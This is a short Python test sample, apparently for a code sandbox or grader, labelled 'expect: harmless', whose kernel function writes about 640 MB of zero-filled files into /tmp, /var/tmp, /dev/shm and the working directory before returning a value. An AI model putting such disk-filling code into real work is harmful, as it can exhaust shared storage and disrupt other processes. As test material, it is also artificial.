# expect: harmless
# problem: gauss
# Fills folders that all processes share.
import os


def custom_kernel(data):
    for place in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
        for number in range(4):
            try:
                with open(f"{place}/@MARK@-{number}", "wb") as file:
                    for _ in range(40):
                        file.write(bytes(1 << 20))
            except OSError:
                pass
    return data[2]
